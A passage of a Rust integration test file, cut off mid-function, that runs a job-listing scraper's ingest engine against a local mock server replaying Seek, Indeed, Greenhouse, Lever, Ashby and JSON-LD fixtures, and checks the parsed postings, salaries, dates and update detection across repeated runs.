//! The run engine end to end: a local HTTP server on 127.0.0.1 serves the recorded fixtures at
//! the live sites' exact paths, the engine's base URLs point at it, and every test runs on each
//! database backend (SQLite always, PostgreSQL with `TEST_DATABASE_URL`).

mod support;

use std::collections::HashSet;
use std::time::{Duration, Instant};

use axum::http::StatusCode;
use chrono::{DateTime, TimeZone, Utc};
use entity::{RunStatus, SalaryPeriod, SalarySource, Source, WorkArrangement, WorkType};
use ingest::SearchParams;
use ingest::engine::{EngineConfig, validate_params};
use ingest::events::IngestEvent;
use sea_orm::{ConnectionTrait, DatabaseConnection, EntityTrait, Statement};
use serde_json::{Value, json};
use support::*;
use tokio_util::sync::CancellationToken;

fn utc(y: i32, mo: u32, d: u32, h: u32, mi: u32, s: u32) -> Option<DateTime<Utc>> {
    Some(Utc.with_ymd_and_hms(y, mo, d, h, mi, s).unwrap())
}

/// `body` (JSON) after `edit`.
fn edit_json(body: &[u8], edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    let mut doc: Value = serde_json::from_slice(body).unwrap();
    edit(&mut doc);
    serde_json::to_vec(&doc).unwrap()
}

/// Every card or job in `items` whose `id_field` is `id`.
fn items_with_id<'a>(
    items: &'a mut Value,
    id_field: &str,
    id: &Value,
) -> impl Iterator<Item = &'a mut Value> {
    let id_field = id_field.to_owned();
    let id = id.clone();
    items
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .filter(move |item| item[&id_field] == id)
}

async fn count(db: &DatabaseConnection, sql: &str) -> i64 {
    let row = db
        .query_one_raw(Statement::from_string(db.get_database_backend(), sql))
        .await
        .unwrap()
        .unwrap();
    row.try_get::<i64>("", "n").unwrap()
}

fn ids(rows: &[entity::job_posting::Model]) -> HashSet<i64> {
    rows.iter().map(|r| r.id).collect()
}

fn as_set(ids: &[i64]) -> HashSet<i64> {
    ids.iter().copied().collect()
}

// =============================================================================================
// 1. Every source's fixtures ingest with the right fields

#[tokio::test]
async fn a_seek_run_stores_every_unique_card_with_the_details_of_its_job_page() {
    for db in testkit::databases("engine_seek_all").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Seek, seek_params()).await;
        let events = check_succeeded(&out, Source::Seek);
        let c = out.report.counters;
        assert_eq!(
            c.pages_fetched, 3,
            "page 1, page 2 and the empty page that ends the search"
        );
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (20, 20, 0, 0),
            "22 cards, 20 unique ids"
        );
        assert_eq!(c.http_errors, 0);
        assert_eq!(
            c.requests,
            1 + 3 + 20,
            "robots.txt, 3 search pages, 20 job pages"
        );
        assert_eq!(h.server.hits(SEEK_JOB), 20, "one job page per new posting");
        assert_eq!(events.pages, 2, "the empty page stores nothing");

        // The live site's exact search path and query.
        let searches: Vec<String> = h
            .server
            .all_hits()
            .into_iter()
            .filter(|hit| hit.key.starts_with("seek:page:"))
            .map(|hit| hit.target)
            .collect();
        assert_eq!(
            searches,
            (1..=3)
                .map(|n| format!(
                    "/api/jobsearch/v5/search?siteKey=NZ-Main&sourcesystem=houston\
                     &keywords=developer&where=Wellington&page={n}&pageSize=32"
                ))
                .collect::<Vec<_>>()
        );

        let rows = postings(h.db(), Source::Seek).await;
        assert_eq!(rows.len(), 20);
        assert_eq!(
            ids(&rows),
            as_set(&events.added),
            "one PostingAdded per row"
        );
        let job_pages: HashSet<String> = h
            .server
            .all_hits()
            .into_iter()
            .filter(|hit| hit.key == SEEK_JOB)
            .map(|hit| hit.target)
            .collect();
        let expected: HashSet<String> = rows
            .iter()
            .map(|r| format!("/job/{}", r.external_id))
            .collect();
        assert_eq!(
            job_pages, expected,
            "each posting's job page, at /job/{{id}}"
        );
        for row in &rows {
            assert_eq!(row.first_run_id, Some(out.report.run.id));
            assert_eq!(row.last_run_id, Some(out.report.run.id));
            assert_eq!(
                row.url,
                h.server.url(&format!("/job/{}", row.external_id)).as_str()
            );
            assert_clean_description(row);
            assert!(
                row.description_html
                    .as_deref()
                    .unwrap()
                    .contains("Acme Analytics builds the data platform"),
                "the ad comes from the job page"
            );
            assert_eq!(
                row.expires_at,
                utc(2026, 9, 2, 13, 59, 59),
                "expiry from the job page"
            );
            assert!(
                row.posted_at.is_some(),
                "{} has listingDate",
                row.external_id
            );
            assert!(!row.content_hash.is_empty());
        }

        let p = posting(h.db(), Source::Seek, "84392059").await;
        assert_eq!(p.title, "Full Stack Developer (12-Month Fixed Term)");
        assert_eq!(p.company.as_deref(), Some("Thankyou Payroll"));
        assert_eq!(p.company_external_id.as_deref(), Some("44382887"));
        assert_eq!(
            p.salary_text.as_deref(),
            Some("$110,000 – $120,000 per year"),
            "mojibake repaired"
        );
        assert_eq!(p.salary_min, Some(110_000.0));
        assert_eq!(p.salary_max, Some(120_000.0));
        assert_eq!(p.salary_currency.as_deref(), Some("NZD"));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Year));
        assert_eq!(
            p.location_raw.as_deref(),
            Some("Wellington Central, Wellington")
        );
        assert_eq!(p.country.as_deref(), Some("NZ"));
        assert_eq!(p.work_type, Some(WorkType::FullTime));
        assert_eq!(p.work_arrangement, WorkArrangement::Hybrid);
        assert_eq!(
            p.classification.as_deref(),
            Some("Information & Communication Technology / Developers/Programmers")
        );
        assert_eq!(p.posted_at, utc(2025, 5, 22, 0, 17, 45));
        assert_eq!(p.raw.as_ref().unwrap()["id"], "84392059");

        // A card without a salary takes the job page's.
        let p = posting(h.db(), Source::Seek, "84645467").await;
        assert_eq!(p.title, "Intermediate Front End Developer");
        assert_eq!(p.company.as_deref(), Some("Click Suite"));
        assert_eq!(
            p.salary_text.as_deref(),
            Some("$150,000 – $170,000 + super")
        );
        assert_eq!(p.salary_min, Some(150_000.0));
        assert_eq!(p.salary_max, Some(170_000.0));
        assert_eq!(p.work_type, Some(WorkType::Contract));

        // Page 2's postings are there too.
        let p = posting(h.db(), Source::Seek, "84678713").await;
        assert_eq!(p.title, "Software Developer");
        assert_eq!(p.company.as_deref(), Some("Absolute IT"));
        assert_eq!(p.salary_min, Some(130_000.0));
        assert_eq!(p.salary_currency.as_deref(), Some("NZD"));
    }
}

#[tokio::test]
async fn an_indeed_run_stores_every_card_with_the_details_of_its_viewjob_page() {
    for db in testkit::databases("engine_indeed_all").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Indeed, indeed_params()).await;
        let events = check_succeeded(&out, Source::Indeed);
        let c = out.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (4, 4, 0, 0),
            "5 cards, 4 job keys"
        );
        assert_eq!(
            c.pages_fetched, 2,
            "the page links to a next page, which has no cards"
        );
        assert_eq!(
            c.requests,
            1 + 2 + 4,
            "robots.txt, 2 search pages, 4 viewjob pages"
        );
        assert_eq!(c.http_errors, 0);
        assert_eq!(events.pages, 1);
        assert_eq!(h.server.hits(INDEED_VIEW), 4);
        let targets: Vec<String> = h
            .server
            .all_hits()
            .into_iter()
            .map(|hit| hit.target)
            .filter(|t| t.starts_with("/jobs"))
            .collect();
        assert_eq!(
            targets,
            [
                "/jobs?q=rust&l=Brisbane+QLD",
                "/jobs?q=rust&l=Brisbane+QLD&start=10"
            ]
        );
        assert_eq!(
            h.server.hits_under("/viewjob?jk=a1b2c3d4e5f60718"),
            1,
            "the viewjob page of each job key"
        );

        let rows = postings(h.db(), Source::Indeed).await;
        assert_eq!(rows.len(), 4);
        assert_eq!(ids(&rows), as_set(&events.added));
        for row in &rows {
            assert_clean_description(row);
            assert_eq!(row.expires_at, utc(2026, 10, 9, 1, 30, 0), "validThrough");
            assert_eq!(
                row.url,
                h.server
                    .url(&format!("/viewjob?jk={}", row.external_id))
                    .as_str()
            );
        }

        let p = posting(h.db(), Source::Indeed, "a1b2c3d4e5f60718").await;
        assert_eq!(p.title, "Rust Developer");
        assert_eq!(p.company.as_deref(), Some("Harbour Data Co"));
        assert_eq!(p.salary_min, Some(140_000.0));
        assert_eq!(p.salary_max, Some(160_000.0));
        assert_eq!(p.salary_currency.as_deref(), Some("AUD"));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Year));
        assert_eq!(p.salary_source, Some(SalarySource::Structured));
        assert_eq!(p.location_raw.as_deref(), Some("Brisbane QLD 4000"));
        assert_eq!(p.city.as_deref(), Some("Brisbane"));
        assert_eq!(p.country.as_deref(), Some("AU"));
        assert_eq!(p.work_type, Some(WorkType::FullTime));
        assert_eq!(p.work_arrangement, WorkArrangement::Hybrid);
        assert_eq!(p.posted_at, utc(2026, 8, 10, 1, 30, 0), "pubDate");
        let html = p.description_html.as_deref().unwrap();
        assert!(
            html.contains("Harbour Data Co moves shipping manifests"),
            "{html}"
        );
        assert!(html.contains("Apply with a short note."), "{html}");

        let p = posting(h.db(), Source::Indeed, "0f1e2d3c4b5a6978").await;
        assert_eq!(p.title, "Platform Engineer {Kubernetes}");
        assert_eq!(p.company.as_deref(), Some("Cloud \"Nine\" Pty Ltd"));
        assert_eq!(p.work_arrangement, WorkArrangement::Remote);
        assert_eq!(p.work_type, Some(WorkType::Contract));
        assert_eq!(p.posted_at, utc(2026, 8, 12, 22, 5, 0));

        let p = posting(h.db(), Source::Indeed, "9a8b7c6d5e4f3a2b").await;
        assert_eq!(
            p.title, "Barista – Weekend Shifts",
            "displayTitle when title is empty"
        );
        assert_eq!(p.salary_min, Some(28.0));
        assert_eq!(p.salary_max, Some(32.0));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Hour));
        assert_eq!(p.work_type, Some(WorkType::Casual));

        let p = posting(h.db(), Source::Indeed, "5e6f7a8b9c0d1e2f").await;
        assert_eq!(p.title, "Junior Data Analyst");
        assert_eq!(p.company.as_deref(), Some("Gumtree Analytics"));
        assert_eq!(
            p.work_type,
            Some(WorkType::PartTime),
            "from taxonomyAttributes"
        );
    }
}

#[tokio::test]
async fn a_greenhouse_run_stores_the_whole_board() {
    for db in testkit::databases("engine_greenhouse_all").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Greenhouse, target(GREENHOUSE_TOKEN)).await;
        let events = check_succeeded(&out, Source::Greenhouse);
        let c = out.report.counters;
        assert_eq!(
            (c.pages_fetched, c.requests, c.http_errors),
            (1, 2, 0),
            "robots.txt and the board"
        );
        assert_eq!((c.jobs_found, c.jobs_new), (2, 2));
        assert_eq!(
            h.server.hits_under("/v1/boards/helsing/jobs?content=true"),
            1
        );
        let rows = postings(h.db(), Source::Greenhouse).await;
        assert_eq!(ids(&rows), as_set(&events.added));
        assert_eq!(
            rows.iter()
                .map(|r| r.external_id.as_str())
                .collect::<Vec<_>>(),
            ["4865187101", "4911999101"]
        );
        for row in &rows {
            assert_clean_description(row);
            assert!(
                row.description_text
                    .as_deref()
                    .unwrap()
                    .contains("Helsing is a defence AI company"),
                "entity-escaped content is unescaped"
            );
        }
        let p = &rows[0];
        assert_eq!(p.title, "Accounts Payable Lead");
        assert_eq!(p.company.as_deref(), Some("Helsing"));
        assert_eq!(p.company_external_id.as_deref(), Some("helsing"));
        assert_eq!(
            p.url,
            "https://helsing.ai/jobs/4865187101?gh_jid=4865187101"
        );
        assert_eq!(p.location_raw.as_deref(), Some("Munich"));
        assert_eq!(p.country.as_deref(), Some("DE"), "from the office");
        assert_eq!(p.classification.as_deref(), Some("Finance"));
        assert_eq!(p.posted_at, utc(2026, 5, 13, 11, 19, 54), "first_published");
        assert_eq!(p.salary_min, None);
        assert_eq!(rows[1].title, "AI Research Engineer -  3D Computer Vision");
    }
}

#[tokio::test]
async fn a_lever_run_stores_every_posting_with_its_salary_range() {
    for db in testkit::databases("engine_lever_all").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Lever, target(LEVER_SITE)).await;
        let events = check_succeeded(&out, Source::Lever);
        let c = out.report.counters;
        assert_eq!((c.pages_fetched, c.requests, c.http_errors), (1, 2, 0));
        assert_eq!((c.jobs_found, c.jobs_new), (2, 2));
        assert_eq!(h.server.hits_under("/v0/postings/matchgroup?mode=json"), 1);
        let rows = postings(h.db(), Source::Lever).await;
        assert_eq!(ids(&rows), as_set(&events.added));
        rows.iter().for_each(assert_clean_description);

        let p = posting(
            h.db(),
            Source::Lever,
            "3414ba28-35f7-45d3-8e13-35c883959635",
        )
        .await;
        assert_eq!(p.title, "Android Engineer III");
        assert_eq!(p.company.as_deref(), Some("matchgroup"));
        assert_eq!(p.salary_min, Some(150_000.0));
        assert_eq!(p.salary_max, Some(180_000.0));
        assert_eq!(p.salary_currency.as_deref(), Some("USD"));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Year));
        assert_eq!(p.salary_source, Some(SalarySource::Structured));
        assert_eq!(p.location_raw.as_deref(), Some("New York, New York"));
        assert_eq!(p.country.as_deref(), Some("US"));
        assert_eq!(p.work_type, Some(WorkType::FullTime));
        assert_eq!(p.work_arrangement, WorkArrangement::Hybrid);
        assert_eq!(
            p.apply_url.as_deref(),
            Some("https://jobs.lever.co/matchgroup/3414ba28-35f7-45d3-8e13-35c883959635/apply")
        );
        assert_eq!(
            p.posted_at,
            Some(Utc.timestamp_millis_opt(1_779_223_091_267).unwrap()),
            "createdAt"
        );

        let p = posting(
            h.db(),
            Source::Lever,
            "0152fd07-2715-4fe1-a208-af9d03c0b358",
        )
        .await;
        assert_eq!(
            p.title,
            "APAC Sr. Localization Program Manager (Tinder Korea)"
        );
        assert_eq!(p.country.as_deref(), Some("KR"));
        assert_eq!(p.salary_min, None);
    }
}

#[tokio::test]
async fn an_ashby_run_stores_every_listed_job() {
    for db in testkit::databases("engine_ashby_all").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Ashby, target(ASHBY_BOARD_NAME)).await;
        let events = check_succeeded(&out, Source::Ashby);
        let c = out.report.counters;
        assert_eq!((c.pages_fetched, c.requests, c.http_errors), (1, 2, 0));
        assert_eq!((c.jobs_found, c.jobs_new), (2, 2));
        assert_eq!(
            h.server
                .hits_under("/posting-api/job-board/comand-ai?includeCompensation=true"),
            1
        );
        let rows = postings(h.db(), Source::Ashby).await;
        assert_eq!(ids(&rows), as_set(&events.added));
        rows.iter().for_each(assert_clean_description);

        let p = posting(
            h.db(),
            Source::Ashby,
            "287c3920-1c9c-4a84-95e2-2854abb47990",
        )
        .await;
        assert_eq!(p.title, "Forward Deployed Engineer");
        assert_eq!(p.company.as_deref(), Some("comand-ai"));
        assert_eq!(p.city.as_deref(), Some("Paris"));
        assert_eq!(p.country.as_deref(), Some("FR"));
        assert_eq!(p.work_type, Some(WorkType::FullTime));
        assert_eq!(p.work_arrangement, WorkArrangement::Hybrid);
        assert_eq!(p.classification.as_deref(), Some("Product Development"));
        assert_eq!(
            p.posted_at,
            Some(
                Utc.with_ymd_and_hms(2026, 7, 3, 12, 16, 54).unwrap()
                    + chrono::Duration::milliseconds(579)
            )
        );
        assert_eq!(p.salary_min, None, "no compensation published");
        assert_eq!(
            posting(
                h.db(),
                Source::Ashby,
                "8ff597f4-bcd8-4fd6-baff-792d602fc2bf"
            )
            .await
            .title,
            "Computer Vision Engineer"
        );
    }
}

#[tokio::test]
async fn jsonld_runs_store_the_postings_of_every_fixture_page() {
    for db in testkit::databases("engine_jsonld_all").await {
        let h = Harness::new(&db).await;
        let host = "127.0.0.1";
        // (page, postings it holds)
        let pages = [
            ("array", 2),
            ("graph", 1),
            ("invalid-next-to-valid", 1),
            ("meta", 1),
            ("neura", 1),
            ("trailing-commas", 1),
            ("remote", 1),
            ("garbage", 0),
        ];
        for (page, expected) in pages {
            let url = h.server.url(&careers_path(page));
            let out = h.run(Source::Jsonld, target(url.as_str())).await;
            let events = check_succeeded(&out, Source::Jsonld);
            let c = out.report.counters;
            assert_eq!(
                (c.pages_fetched, c.jobs_found, c.jobs_new),
                (1, expected, expected),
                "{page}"
            );
            assert_eq!(events.added.len(), expected as usize, "{page}");
            assert_eq!(events.pages, u32::from(expected > 0), "{page}");
        }
        assert_eq!(postings(h.db(), Source::Jsonld).await.len(), 8);
        for row in postings(h.db(), Source::Jsonld).await {
            assert_clean_description(&row);
        }

        // Identifiers are keyed by host; postings without one by their URL.
        let p = posting(h.db(), Source::Jsonld, &format!("{host}:RUST-0042")).await;
        assert_eq!(p.title, "Senior Rust Engineer");
        assert_eq!(p.company.as_deref(), Some("Example Robotics"));
        assert_eq!(p.url, h.server.url("/jobs/rust-0042").as_str());
        assert_eq!(p.salary_min, Some(170_000.0));
        assert_eq!(p.salary_max, Some(190_000.0));
        assert_eq!(p.salary_currency.as_deref(), Some("AUD"));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Year));
        assert_eq!(p.city.as_deref(), Some("Sydney"));
        assert_eq!(p.region.as_deref(), Some("NSW"));
        assert_eq!(p.country.as_deref(), Some("AU"));
        assert_eq!(p.work_type, Some(WorkType::FullTime));
        assert_eq!(p.posted_at, utc(2026, 8, 2, 23, 0, 0), "09:00 +10:00");
        assert_eq!(p.expires_at, utc(2026, 9, 30, 0, 0, 0));

        let second = format!("{}#1", h.server.url(&careers_path("array")));
        let p = posting(h.db(), Source::Jsonld, &second).await;
        assert_eq!(p.title, "Graduate Data Analyst");
        assert_eq!(p.salary_min, Some(38.5));
        assert_eq!(p.salary_period, Some(SalaryPeriod::Hour));
        assert_eq!(p.location_raw.as_deref(), Some("Parramatta NSW 2150"));

        let p = posting(h.db(), Source::Jsonld, &format!("{host}:NZ-2026-17")).await;
        assert_eq!(p.company.as_deref(), Some("Kiwi Example Ltd"));
        assert_eq!(p.salary_currency.as_deref(), Some("NZD"));
        assert_eq!(p.salary_min, Some(125_000.0));
        assert_eq!(p.country.as_deref(), Some("NZ"));

        let page = h.server.url(&careers_path("invalid-next-to-valid"));
        let p = posting(h.db(), Source::Jsonld, page.as_str()).await;
        assert_eq!(
            p.title, "Warehouse Team Leader",
            "the broken script is skipped"
        );

        let page = h.server.url(&careers_path("meta"));
        let p = posting(h.db(), Source::Jsonld, page.as_str()).await;
        assert_eq!(p.title, "Software Engineer, Infrastructure");
        assert_eq!(p.company.as_deref(), Some("Meta"));
        assert_eq!(p.posted_at, utc(2025, 6, 10, 20, 7, 44));

        let p = posting(
            h.db(),
            Source::Jsonld,
            &format!("{host}:00df0928-b013-448c-b3dd-6c6fb80eadc2"),
        )
        .await;
        assert_eq!(p.company.as_deref(), Some("Neura Robotics GmbH"));
        assert_eq!(p.city.as_deref(), Some("Metzingen"));

        let page = h.server.url(&careers_path("trailing-commas"));
        let p = posting(h.db(), Source::Jsonld, page.as_str()).await;
        assert_eq!(p.title, "Night Fill Assistant");
        assert_eq!(p.company.as_deref(), Some("Example Grocers"));

        let p = posting(h.db(), Source::Jsonld, &format!("{host}:4242")).await;
        assert_eq!(p.work_arrangement, WorkArrangement::Remote);
        assert_eq!(p.salary_min, Some(95_000.0));
        assert_eq!(p.salary_max, Some(110_000.0));
        assert_eq!(p.salary_source, Some(SalarySource::Parsed));
        assert!(
            p.description_text
                .as_deref()
                .unwrap()
                .contains("Help customers across APAC"),
            "the smuggled script is gone, the text stays"
        );
    }
}

// =============================================================================================
// 2. A second run in a row changes nothing

#[tokio::test]
async fn a_second_seek_run_finds_nothing_new_and_fetches_no_job_pages() {
    for db in testkit::databases("engine_seek_twice").await {
        let h = Harness::new(&db).await;
        let first = h.run(Source::Seek, seek_params()).await;
        check_succeeded(&first, Source::Seek);
        let before = postings(h.db(), Source::Seek).await;
        h.server.reset_hits();

        let second = h.run(Source::Seek, seek_params()).await;
        let events = check_succeeded(&second, Source::Seek);
        let c = second.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (20, 0, 0, 20),
            "{c:?}"
        );
        assert_eq!(
            h.server.hits(SEEK_JOB),
            0,
            "known postings need no job page"
        );
        assert_eq!(c.requests, 3, "the 3 search pages; robots.txt is cached");
        assert!(events.added.is_empty() && events.updated.is_empty());

        let after = postings(h.db(), Source::Seek).await;
        assert_eq!(after.len(), 20);
        for (b, a) in before.iter().zip(&after) {
            assert_eq!(a.id, b.id);
            assert_eq!(a.content_hash, b.content_hash, "{}", a.external_id);
            assert_eq!(a.description_html, b.description_html, "the ad is kept");
            assert_eq!(a.expires_at, b.expires_at);
            assert_eq!(a.salary_text, b.salary_text, "{}", a.external_id);
            assert_eq!(a.first_run_id, Some(first.report.run.id));
            assert_eq!(a.last_run_id, Some(second.report.run.id), "seen again");
            assert!(a.last_seen_at >= b.last_seen_at);
        }
    }
}

#[tokio::test]
async fn a_second_indeed_run_finds_nothing_new_and_fetches_no_viewjob_pages() {
    for db in testkit::databases("engine_indeed_twice").await {
        let h = Harness::new(&db).await;
        let first = h.run(Source::Indeed, indeed_params()).await;
        check_succeeded(&first, Source::Indeed);
        let before = postings(h.db(), Source::Indeed).await;
        h.server.reset_hits();

        let second = h.run(Source::Indeed, indeed_params()).await;
        let events = check_succeeded(&second, Source::Indeed);
        let c = second.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (4, 0, 0, 4),
            "{c:?}"
        );
        assert_eq!(
            h.server.hits(INDEED_VIEW),
            0,
            "known postings need no viewjob page"
        );
        assert!(events.added.is_empty() && events.updated.is_empty());
        let after = postings(h.db(), Source::Indeed).await;
        for (b, a) in before.iter().zip(&after) {
            assert_eq!(a.content_hash, b.content_hash, "{}", a.external_id);
            assert_eq!(a.description_html, b.description_html);
            assert_eq!(
                (a.salary_min, a.salary_max, a.salary_period),
                (b.salary_min, b.salary_max, b.salary_period),
                "{}",
                a.external_id
            );
            assert_eq!(a.city, b.city, "{}", a.external_id);
            assert_eq!(a.last_run_id, Some(second.report.run.id));
        }
    }
}

async fn second_run_finds_the_same_postings_unchanged(source: Source, params: SearchParams) {
    for db in testkit::databases(&format!("engine_{source}_twice")).await {
        let h = Harness::new(&db).await;
        let first = h.run(source, params.clone()).await;
        check_succeeded(&first, source);
        let found = first.report.counters.jobs_found;
        assert!(found > 0);
        let before = postings(h.db(), source).await;

        let second = h.run(source, params.clone()).await;
        let events = check_succeeded(&second, source);
        let c = second.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (found, 0, 0, found),
            "{source}: {c:?}"
        );
        assert!(events.added.is_empty() && events.updated.is_empty());
        let after = postings(h.db(), source).await;
        assert_eq!(ids(&after), ids(&before));
        for (b, a) in before.iter().zip(&after) {
            assert_eq!(a.content_hash, b.content_hash);
            assert_eq!(
                a.updated_at, b.updated_at,
                "an unchanged row is not rewritten"
            );
            assert_eq!(a.last_run_id, Some(second.report.run.id));
        }
    }
}

#[tokio::test]
async fn a_second_greenhouse_run_finds_every_job_unchanged() {
    second_run_finds_the_same_postings_unchanged(Source::Greenhouse, target(GREENHOUSE_TOKEN))
        .await;
}

#[tokio::test]
async fn a_second_lever_run_finds_every_posting_unchanged() {
    second_run_finds_the_same_postings_unchanged(Source::Lever, target(LEVER_SITE)).await;
}

#[tokio::test]
async fn a_second_ashby_run_finds_every_job_unchanged() {
    second_run_finds_the_same_postings_unchanged(Source::Ashby, target(ASHBY_BOARD_NAME)).await;
}

#[tokio::test]
async fn a_second_jsonld_run_finds_every_posting_unchanged() {
    for db in testkit::databases("engine_jsonld_twice").await {
        let h = Harness::new(&db).await;
        let url = h.server.url(&careers_path("array"));
        let first = h.run(Source::Jsonld, target(url.as_str())).await;
        check_succeeded(&first, Source::Jsonld);
        let second = h.run(Source::Jsonld, target(url.as_str())).await;
        let events = check_succeeded(&second, Source::Jsonld);
        let c = second.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (2, 0, 0, 2)
        );
        assert!(events.added.is_empty() && events.updated.is_empty());
        assert_eq!(postings(h.db(), Source::Jsonld).await.len(), 2);
    }
}

// =============================================================================================
// 3. A changed posting is an update

/// Runs `source` twice, applying `change` to the server in between; the posting `changed_id` must
/// be the one update, and `check` sees its row afterwards.
async fn a_change_between_runs_is_one_update(
    label: &str,
    source: Source,
    params: impl Fn(&MockServer) -> SearchParams,
    change: impl Fn(&MockServer),
    changed_id: impl Fn(&MockServer) -> String,
    check: impl Fn(&entity::job_posting::Model),
) {
    for db in testkit::databases(label).await {
        let h = Harness::new(&db).await;
        let first = h.run(source, params(&h.server)).await;
        check_succeeded(&first, source);
        let found = first.report.counters.jobs_found;
        let id = changed_id(&h.server);
        let before = posting(h.db(), source, &id).await;

        change(&h.server);
        h.server.reset_hits();
        let second = h.run(source, params(&h.server)).await;
        let events = check_succeeded(&second, source);
        let c = second.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_updated, c.jobs_unchanged),
            (found, 0, 1, found - 1),
            "{source}: {c:?}"
        );
        assert_eq!(
            events.updated,
            [before.id],
            "one PostingUpdated, for the changed row"
        );
        assert!(events.added.is_empty());

        let after = posting(h.db(), source, &id).await;
        assert_eq!(after.id, before.id, "updated in place");
        assert_ne!(after.content_hash, before.content_hash);
        assert_eq!(after.first_run_id, Some(first.report.run.id));
        assert_eq!(after.last_run_id, Some(second.report.run.id));
        assert_eq!(after.first_seen_at, before.first_seen_at);
        assert!(after.updated_at > before.updated_at);
        check(&after);
        assert_eq!(h.server.hits(SEEK_JOB) + h.server.hits(INDEED_VIEW), 0);
    }
}

#[tokio::test]
async fn a_seek_salary_changed_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_seek_change",
        Source::Seek,
        |_| seek_params(),
        |server| {
            let page = edit_json(SEEK_PAGE1, |doc| {
                for card in items_with_id(&mut doc["data"], "id", &json!("84392059")) {
                    card["salaryLabel"] = json!("$130,000 – $140,000 per year");
                }
            });
            server.set_body(&seek_page(1), page);
        },
        |_| "84392059".into(),
        |p| {
            assert_eq!(p.salary_min, Some(130_000.0));
            assert_eq!(p.salary_max, Some(140_000.0));
            assert_eq!(
                p.salary_text.as_deref(),
                Some("$130,000 – $140,000 per year")
            );
            assert!(
                p.description_html
                    .as_deref()
                    .is_some_and(|d| d.contains("Acme Analytics")),
                "the job page's ad survives an update from the listing"
            );
            assert_eq!(p.expires_at, utc(2026, 9, 2, 13, 59, 59));
        },
    )
    .await;
}

#[tokio::test]
async fn an_indeed_salary_changed_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_indeed_change",
        Source::Indeed,
        |_| indeed_params(),
        |server| {
            let page = std::str::from_utf8(INDEED_SEARCH)
                .unwrap()
                .replace(
                    r#""extractedSalary":{"max":160000,"min":140000,"type":"yearly"}"#,
                    r#""extractedSalary":{"max":170000,"min":150000,"type":"yearly"}"#,
                )
                .replace("$140,000 - $160,000 a year", "$150,000 - $170,000 a year");
            server.set_body(INDEED_FIRST_PAGE, page);
        },
        |_| "a1b2c3d4e5f60718".into(),
        |p| {
            assert_eq!(p.salary_min, Some(150_000.0));
            assert_eq!(p.salary_max, Some(170_000.0));
            assert_eq!(p.salary_text.as_deref(), Some("$150,000 - $170,000 a year"));
            assert!(
                p.description_html.is_some(),
                "the viewjob description survives"
            );
        },
    )
    .await;
}

#[tokio::test]
async fn a_greenhouse_title_changed_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_greenhouse_change",
        Source::Greenhouse,
        |_| target(GREENHOUSE_TOKEN),
        |server| {
            let board = edit_json(GREENHOUSE_BOARD, |doc| {
                for job in items_with_id(&mut doc["jobs"], "id", &json!(4911999101u64)) {
                    job["title"] = json!("Senior AI Research Engineer - 3D Computer Vision");
                }
            });
            server.set_body(&greenhouse_path(), board);
        },
        |_| "4911999101".into(),
        |p| assert_eq!(p.title, "Senior AI Research Engineer - 3D Computer Vision"),
    )
    .await;
}

#[tokio::test]
async fn a_lever_salary_changed_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_lever_change",
        Source::Lever,
        |_| target(LEVER_SITE),
        |server| {
            let postings = edit_json(LEVER_POSTINGS, |doc| {
                let id = json!("3414ba28-35f7-45d3-8e13-35c883959635");
                for p in items_with_id(doc, "id", &id) {
                    p["salaryRange"]["min"] = json!(160_000);
                    p["salaryRange"]["max"] = json!(190_000);
                }
            });
            server.set_body(&lever_path(), postings);
        },
        |_| "3414ba28-35f7-45d3-8e13-35c883959635".into(),
        |p| {
            assert_eq!(p.salary_min, Some(160_000.0));
            assert_eq!(p.salary_max, Some(190_000.0));
            assert_eq!(p.salary_currency.as_deref(), Some("USD"));
        },
    )
    .await;
}

#[tokio::test]
async fn an_ashby_salary_published_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_ashby_change",
        Source::Ashby,
        |_| target(ASHBY_BOARD_NAME),
        |server| {
            let board = edit_json(ASHBY_BOARD, |doc| {
                let id = json!("287c3920-1c9c-4a84-95e2-2854abb47990");
                for job in items_with_id(&mut doc["jobs"], "id", &id) {
                    job["compensation"]["compensationTierSummary"] = json!("€70K – €90K");
                    job["compensation"]["summaryComponents"] = json!([{
                        "compensationType": "Salary",
                        "interval": "1 YEAR",
                        "currencyCode": "EUR",
                        "minValue": 70000,
                        "maxValue": 90000
                    }]);
                }
            });
            server.set_body(&ashby_path(), board);
        },
        |_| "287c3920-1c9c-4a84-95e2-2854abb47990".into(),
        |p| {
            assert_eq!(p.salary_min, Some(70_000.0));
            assert_eq!(p.salary_max, Some(90_000.0));
            assert_eq!(p.salary_currency.as_deref(), Some("EUR"));
            assert_eq!(p.salary_period, Some(SalaryPeriod::Year));
        },
    )
    .await;
}

#[tokio::test]
async fn a_jsonld_salary_changed_on_the_second_run_is_an_update() {
    a_change_between_runs_is_one_update(
        "engine_jsonld_change",
        Source::Jsonld,
        |server| target(server.url(&careers_path("array")).as_str()),
        |server| {
            let (_, page) = JSONLD_PAGES.iter().find(|(n, _)| *n == "array").unwrap();
